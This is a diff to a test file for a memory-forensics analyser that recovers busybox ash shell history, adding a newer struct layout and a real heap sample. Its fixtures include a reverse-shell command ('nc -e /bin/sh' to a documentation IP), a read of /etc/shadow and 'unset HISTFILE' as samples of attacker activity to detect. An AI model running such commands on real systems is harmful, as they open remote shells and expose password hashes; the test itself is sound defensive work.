@@ -4,8 +4,14 @@
  * page 4 is not in the checkpoint; a line split across two pages, a line pointer into the
  * absent page, a line being edited, an empty interactive state, and look-alikes that must not
  * be taken for one (in the binary's data, with a pointer outside every mapping, with a
- * non-NULL word past the entries, a state inside the absent page).
+ * non-NULL word past the entries, a state inside the absent page). And the heap of a real
+ * busybox 1.35 ash (data/busybox-1.35-ash-heap.json says how it was taken), whose layout has
+ * the get_exe_name hook and no history file.
  */
+import fs from 'node:fs';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { gunzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { openMemory } from '../../../../src/lib/memory/open-memory.ts';
 import { ashHistory } from '../../../../src/lib/analyses/history/busybox-ash.ts';
@@ -57,19 +63,23 @@ class Image {
       histFile?: bigint;
       timeout?: number;
       pathLookup?: bigint;
+      /** busybox 1.34+: the get_exe_name hook after path_lookup shifts the rest by 8. */
+      getExeName?: bigint;
     },
   ): void {
     this.u32(at, ASH_FLAGS);
     this.u32(at + 4n, o.timeout ?? -1);
     this.u64(at + 8n, o.pathLookup ?? 0n);
-    this.u32(at + 16n, o.count);
-    this.u32(at + 20n, o.count);
-    this.u32(at + 24n, o.max);
-    let slots = at + 32n;
+    const c = o.getExeName === undefined ? at + 16n : at + 24n;
+    if (o.getExeName !== undefined) this.u64(at + 16n, o.getExeName);
+    this.u32(c, o.count);
+    this.u32(c + 4n, o.count);
+    this.u32(c + 8n, o.max);
+    let slots = c + 16n;
     if (o.histFile !== undefined) {
-      this.u32(at + 28n, 0);
-      this.u64(at + 32n, o.histFile);
-      slots = at + 40n;
+      this.u32(c + 12n, 0);
+      this.u64(c + 16n, o.histFile);
+      slots = c + 24n;
     }
     o.history.forEach((p, i) => this.u64(slots + 8n * BigInt(i), p));
   }
@@ -127,7 +137,8 @@ describe('busybox ash history on built images', () => {
       expect(r.ashStates).toEqual([
         {
           address: STATE,
-          layout: 'save-history',
+          saveHistory: true,
+          getExeName: false,
           count: 4,
           max: 255,
           historyAddress: STATE + 40n,
@@ -159,9 +170,35 @@ describe('busybox ash history on built images', () => {
     img.str(HEAP + 0xa00n, 'cat /etc/shadow');
     img.str(HEAP + 0xb00n, 'exit');
     const r = await ashHistory(await img.memory(), 1, []);
-    expect(r.ashStates?.[0]).toMatchObject({ layout: 'no-save-history', count: 2, max: 16 });
+    expect(r.ashStates?.[0]).toMatchObject({
+      saveHistory: false,
+      getExeName: false,
+      count: 2,
+      max: 16,
+    });
     expect(r.entries.map((e) => e.command)).toEqual(['cat /etc/shadow', 'exit']);
     expect(r.notes.join(' ')).toMatch(/built without saving history to a file/);
+  });
+
+  it('reads the 1.34+ layout (get_exe_name) with a history file', async () => {
+    const img = new Image();
+    img.state(STATE, {
+      count: 1,
+      max: 255,
+      getExeName: DATA + 0x80n,
+      histFile: HEAP + 0x800n,
+      history: [HEAP + 0xa00n],
+    });
+    img.str(HEAP + 0x800n, '/root/.ash_history');
+    img.str(HEAP + 0xa00n, 'nc -e /bin/sh 203.0.113.9 4444');
+    const r = await ashHistory(await img.memory(), 1, []);
+    expect(r.ashStates?.[0]).toMatchObject({
+      saveHistory: true,
+      getExeName: true,
+      histFile: '/root/.ash_history',
+      historyAddress: STATE + 48n,
+    });
+    expect(r.entries.map((e) => e.command)).toEqual(['nc -e /bin/sh 203.0.113.9 4444']);
   });
 
   it('reports an interactive state that holds no line yet, and no entry', async () => {
@@ -227,5 +264,48 @@ describe('busybox ash history on built images', () => {
     expect(h.antiForensics).toEqual([
       { pid: 1, where: 'history of pid 1', what: 'unset HISTFILE', address: STATE + 64n },
     ]);
+  });
+});
+
+describe('the heap of a real busybox 1.35 ash', () => {
+  const here = path.dirname(fileURLToPath(import.meta.url));
+  const doc = JSON.parse(
+    fs.readFileSync(path.join(here, 'data/busybox-1.35-ash-heap.json'), 'utf8'),
+  ) as {
+    typed: string[];
+    heap: { start: string; end: string; gzipBase64: string };
+    mappings: { start: string; end: string; name: string }[];
+  };
+
+  /** The heap dumped; every other mapping (the binary, libc…) present but not dumped. */
+  async function memory() {
+    const heap = new Uint8Array(gunzipSync(Buffer.from(doc.heap.gzipBase64, 'base64')));
+    const start = BigInt(doc.heap.start);
+    const vmas = doc.mappings
+      .filter((m) => m.name !== '[vsyscall]')
+      .map((m) =>
+        m.name === '[heap]'
+          ? vma(BigInt(m.start), BigInt(m.end), { status: 0x1 | 0x200 | 0x20 })
+          : vma(BigInt(m.start), BigInt(m.end), { status: VMA_FILE_PRIVATE, flags: 0x2 }),
+      );
+    const ck = new FakeCheckpoint([
+      { pid: 1, vmas, pagemap: [pe(start, heap.length / PAGE, PE_PRESENT)] },
+    ]).raw('pages-1.img', heap);
+    return openMemory(ck.store(), { decode: decodeFake, parent: null });
+  }
+
+  it('gives the typed lines in order, and not the line left unentered', async () => {
+    const r = await ashHistory(await memory(), 1, []);
+    expect(r.entries.map((e) => e.command)).toEqual(doc.typed);
+    expect(r.entries.every((e) => !e.absent && e.timestamp === undefined)).toBe(true);
+    expect(r.ashStates).toHaveLength(1);
+    expect(r.ashStates![0]).toMatchObject({
+      saveHistory: false,
+      getExeName: true,
+      count: 5,
+      max: 15,
+    });
+    expect(r.ashStates![0]!.editedLine).toBeUndefined();
+    expect(r.listAddress).toBe(r.ashStates![0]!.address + 40n);
   });
 });
